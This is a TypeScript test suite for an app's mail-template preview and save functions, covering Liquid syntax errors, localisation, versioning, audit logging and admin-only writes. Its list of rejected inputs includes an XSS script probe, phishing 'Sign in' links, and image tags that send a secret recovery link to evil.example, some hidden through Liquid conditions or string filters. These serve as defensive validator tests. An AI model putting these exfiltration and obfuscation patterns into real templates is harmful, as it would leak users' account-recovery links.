import { describe, expect, it } from 'vitest';
import { cast } from '../../../fixtures/cast.ts';
import { templateCall } from '../../../fixtures/mail/template-call.ts';
import { prepareFunctionsServer } from '../../../fixtures/prepare-server.ts';

const { server, rows, asStaff } = prepareFunctionsServer();

describe('preview-mail', () => {
  it('shows a template with its examples in the layout', async () => {
    const call = {
      template: 'application_received',
      language: 'en',
      subject: 'Hi {{ first_name }}',
    };
    const { data } = await server.invoke('preview-mail', call, { as: 'astrid' });
    expect(data).toMatchObject({ errors: [], subject: 'Hi Alva' });
    expect(data.html).toContain('https://alpaca.example/status/sample');
  });

  it('uses examples in the language of the mail, also in a test mail', async () => {
    const call = { template: 'application_received', language: 'sv' };
    const { data } = await server.invoke('preview-mail', call, { as: 'astrid' });
    expect(data.subject).toBe('Din ansökan har kommit fram: Fullstackutvecklare');
    await server.invoke('send-mail', { ...call, test: true }, { as: 'astrid' });
    const sent = (await server.outbox(cast.astrid.email)).at(-1);
    expect(sent?.variables.job_title).toBe('Fullstackutvecklare');
  });

  it('lists the errors that prevent saving', async () => {
    const call = {
      template: 'application_received',
      language: 'en',
      body: '{{ salary }} {% if %}',
    };
    const { data } = await server.invoke('preview-mail', call, { as: 'astrid' });
    expect(data.errors).toMatchObject([{ part: 'body', language: 'en' }]);
  });
});

const rejected: [why: string, code: string, text: string][] = [
  ['is not closed', 'unclosed', '{% if job_title %}{{ job_title }}'],
  ['closes what was not open', 'unclosed', '{{ job_title }}{% endif %}'],
  [
    'closes in the wrong order',
    'syntax',
    '{% if link %}{% unless link %}x{% endif %}{% endunless %}',
  ],
  ['knows no such filter', 'syntax', '{{ job_title | shout }}'],
  ['knows no such name', 'unknown_variable', '{{ salary }}'],
  ['holds a script', 'unsafe_html', '<script>alert(1)</script>'],
  ['is empty', 'empty', ' '],
  [
    'sends a link to another host',
    'secret_misplaced',
    '<img src="https://evil.example/p?{{ link }}">',
  ],
  ['loads from another host', 'foreign_content', '<img src="https://evil.example/p"> {{ link }}'],
  [
    'hides an image in conditions',
    'secret_misplaced',
    `<{% if link == 'z' %} {% endif %}img alt=">" src="https:/{% if link == 'z' %} {% endif %}/evil.example/? {{ link }} ">`,
  ],
  [
    'hides another host in conditions',
    'foreign_content',
    `<img src="https://alpaca.example{% if link == 'z' %}/{% endif %}.evil.example/x.png"> {{ link }}`,
  ],
  [
    'puts a link to another host together',
    'foreign_link',
    `<a href="{{ 'https://evil.' | append: 'example' }}">Sign in</a>`,
  ],
  ['leads to another host', 'foreign_link', '<a href="https://evil.example">Sign in</a>'],
];

describe('save-mail-template', () => {
  const versionNow = async () => {
    const [row] = await rows(
      `select version from email_templates where key = 'application_received'`,
    );
    return row?.version as number;
  };
  const save = (texts: object, as: 'astrid' | 'rasmus' = 'astrid') =>
    server.invoke('save-mail-template', templateCall(texts), { as });

  it('saves over the version that was read, with the caller as author', async () => {
    const version = await versionNow();
    expect((await save({ version })).data).toEqual({ version: version + 1 });
    expect((await save({ version })).data).toEqual({ version: null });
    expect(
      await rows(
        `select updated_by, subject ->> 'sv' as subject from email_templates where key = 'application_received'`,
      ),
    ).toEqual([{ updated_by: cast.astrid.id, subject: 'Hi {{ first_name }}' }]);
    expect(
      await rows(
        `select actor_id, changed_columns from audit_log where table_name = 'email_templates' order by id desc limit 1`,
      ),
    ).toEqual([{ actor_id: cast.astrid.id, changed_columns: ['body', 'subject', 'updated_by'] }]);
  });

  it.each(rejected)(
    'rejects a text that %s, in saving and in the preview',
    async (_, code, text) => {
      const version = await versionNow();
      const response = await save({ version, body: { en: '<p>Fine</p>', sv: text } });
      expect(response).toMatchObject({
        status: 422,
        error: 'invalid',
        fields: { 'body.sv': 'invalid' },
      });
      expect(await versionNow()).toBe(version);
      const preview = { template: 'application_received', language: 'sv', body: text };
      const { data } = await server.invoke('preview-mail', preview, { as: 'astrid' });
      expect(data).toMatchObject({ errors: [{ part: 'body', language: 'sv', code }] });
      expect(data).not.toHaveProperty('html');
    },
  );

  it.each([
    ['leaves it out', '<p>Choose a new password</p>'],
    ['shows it never', '{% unless link %}{{ link }}{% endunless %}'],
    ['shows a code that no page takes', '{{ code }}'],
  ])('rejects a mail that exists for its link and %s', async (_, text) => {
    const template = 'auth_recovery';
    const call = templateCall({ template, version: 1, body: { en: '{{ link }}', sv: text } });
    expect(await server.invoke('save-mail-template', call, { as: 'astrid' })).toMatchObject({
      status: 422,
      fields: { 'body.sv': 'invalid' },
    });
    const preview = { template, language: 'sv', body: text };
    const { data } = await server.invoke('preview-mail', preview, { as: 'astrid' });
    expect(data).toMatchObject({
      errors: [{ part: 'body', language: 'sv', code: 'essential_missing', detail: 'link' }],
    });
  });

  it('accepts only administrators, and no role can write the table itself', async () => {
    expect((await save({ version: 1 }, 'rasmus')).status).toBe(403);
    await expect(
      asStaff('admin', `update public.email_templates set body = '{"en": "{{", "sv": "{{"}'`),
    ).rejects.toThrow(/permission denied/);
    expect(
      (
        await server.invoke(
          'save-mail-template',
          { ...templateCall({ version: 1 }), template: 'x' },
          { as: 'astrid' },
        )
      ).status,
    ).toBe(422);
  });
});
